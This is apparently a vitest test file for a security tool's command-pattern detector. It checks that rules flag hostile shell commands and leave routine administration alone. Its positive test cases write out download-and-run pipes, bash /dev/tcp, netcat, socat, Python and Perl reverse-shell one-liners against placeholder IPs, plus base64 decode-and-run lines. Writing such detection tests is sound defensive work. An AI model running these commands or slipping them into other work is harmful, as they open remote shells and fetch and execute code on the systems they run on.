import { describe, expect, it } from 'vitest';
import { commandPatterns, isHiddenPath, matchesCommand } from './patterns.ts';

function idsOf(command: string): string[] {
  return commandPatterns.filter((pattern) => matchesCommand(pattern, command)).map((pattern) => pattern.id);
}

describe('command patterns', () => {
  it.each([
    ['sh -c curl -s http://203.0.113.5/x | bash', 'download-and-run'],
    ['sh -c wget -qO- http://x/y;sudo /bin/sh y', 'download-and-run'],
    ['bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'reverse-shell-dev-tcp'],
    ['nc -e /bin/sh 203.0.113.9 4444', 'reverse-shell-netcat'],
    ['ncat 203.0.113.9 4444 --sh-exec "bash"', 'reverse-shell-netcat'],
    ['socat tcp:203.0.113.9:4444 exec:/bin/bash,pty', 'reverse-shell-netcat'],
    [
      `python3 -c import socket,os,pty;s=socket.socket();s.connect(("1.2.3.4",1));pty.spawn("/bin/sh")`,
      'reverse-shell-script',
    ],
    [`perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec("/bin/sh -i")`, 'reverse-shell-script'],
    ['bash -c echo aWQK | base64 -d | sh', 'decode-and-run'],
    ['chmod +x /tmp/.x', 'make-temporary-executable'],
    ['chmod 755 /dev/shm/a', 'make-temporary-executable'],
    ['chmod 700 /tmp/apt-key-gpghome.7jOdXFnKDw/run', 'make-temporary-executable'],
  ])('%s', (command, id) => {
    expect(idsOf(command)).toContain(id);
  });

  it.each([
    ['curl -fsS https://updates.example/index.json -o /var/cache/index.json'],
    ['wget https://example.org/shell-guide.html'],
    ['nc -z -w1 10.0.0.5 22'],
    ['base64 -d /etc/ssl/cert.b64'],
    ['chmod 644 /tmp/report.txt'],
    ['chmod 700 /tmp/apt-key-gpghome.7jOdXFnKDw'],
    ['chmod 700 /tmp/build/root/tmp/apt-key-gpghome.7jOdXFnKDw'],
    ['python3 -c print("socket")'],
    ['/bin/sh -c run-parts --report /etc/cron.hourly'],
    ['ssh bash.example.org'],
  ])('leaves administration alone: %s', (command) => {
    expect(idsOf(command)).toEqual([]);
  });

  it('comes to an end on a command made to be slow', () => {
    const hostile = 'python -c socket curl nc -e base64 -d chmod 7 '.repeat(100_000);
    expect(idsOf(hostile)).toEqual([]);
  });
});

describe('isHiddenPath', () => {
  it.each([
    ['/usr/lib/.x/implant', true],
    ['/var/tmp/.cache', true],
    ['/usr/bin/ls', false],
    ['/home/a/.local/bin/tool', false],
    ['/root/.cargo/bin/cargo', false],
    ['/opt/../bin/x', false],
  ])('%s', (path, hidden) => {
    expect(isHiddenPath(path)).toBe(hidden);
  });
});
